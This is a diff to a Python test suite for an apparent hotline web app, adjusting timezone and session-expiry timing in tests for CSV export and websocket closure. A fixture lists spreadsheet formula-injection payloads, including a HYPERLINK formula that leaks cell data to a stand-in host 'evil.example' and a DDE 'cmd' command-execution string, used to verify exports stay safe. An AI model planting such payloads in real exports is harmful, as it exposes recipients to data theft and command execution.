@@ -11,7 +11,9 @@ import logging
 import threading
 import time
 import zipfile
+from datetime import datetime, timedelta
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 from fastapi.testclient import TestClient
@@ -60,13 +62,14 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"click")', "=cmd|' /C calc'!A
 
 def test_item01_exports_never_carry_a_formula(client: TestClient, headers: H,
                                              contacts: ContactService) -> None:
-    # a caller's number (caller ID is the caller's to choose) and the menu node both reach
-    # the contacts export
+    # a caller's number (caller ID is the caller's to choose) reaches the contacts export
+    at = SUITE_CLOCK()
     for n, text in enumerate(FORMULAS):
         contacts.apply(ContactEvent(f"F-{n}", EventKind.CALL_STARTED,
-                                    {"caller": text, "channel": "PJSIP/x"}, at=SUITE_CLOCK()))
-    day = SUITE_CLOCK().astimezone().date().isoformat()
-    params = {"report": "contacts", "from": day, "to": day}
+                                    {"caller": text, "channel": "PJSIP/x"}, at=at))
+    local = at.astimezone(ZoneInfo("Asia/Shanghai")).date()  # the hotline's days
+    params = {"report": "contacts", "from": (local - timedelta(days=1)).isoformat(),
+              "to": (local + timedelta(days=1)).isoformat()}
     csv_text = client.get(f"{API}/stats/export", params={**params, "format": "csv"},
                           headers=headers["supervisor"]).text
     for text in FORMULAS:
@@ -211,9 +214,12 @@ def test_item05_websocket_closes_when_the_session_ends(app_settings: dict[str, A
                                                       clean_users: Database, how: str) -> None:
     ensure_user(clean_users, "sup5", "supervisor")
     admin = bearer(token_for(clean_users, "admin5", "admin"))
-    ttl = 1.5 / 3600 if how == "expiry" else 12
-    with make_client(app_settings, session_ttl_hours=ttl, ws_session_check_s=0.2) as client:
-        token = login(client, "sup5").json()["access_token"]
+    ttl = 4 / 3600 if how == "expiry" else 12  # seconds, on the suite's clock
+    with make_client(app_settings, session_ttl_hours=ttl, ws_session_check_s=0.2,
+                     stats_wallboard_interval_s=3600) as client:  # only the test publishes
+        session = login(client, "sup5").json()
+        token = session["access_token"]
+        expires = datetime.fromisoformat(session["expires_at"])
         client.cookies.clear()
         notifier: Notifier = client.app.state.notifier  # type: ignore[attr-defined]
         with client.websocket_connect(f"{API}/ws?topics=wallboard",
@@ -231,7 +237,7 @@ def test_item05_websocket_closes_when_the_session_ends(app_settings: dict[str, A
                 assert client.patch(f"{API}/users/sup5", json={"password": "new-secret-77"},
                                     headers=admin).status_code == 200
             else:
-                time.sleep(1.6)
+                time.sleep(max(0.0, (expires - SUITE_CLOCK()).total_seconds()) + 0.3)
             notifier.publish("wallboard", {"n": 2})  # not delivered any more
             assert _ended(ws) == 4401
         with pytest.raises(WebSocketDisconnect) as refused, \
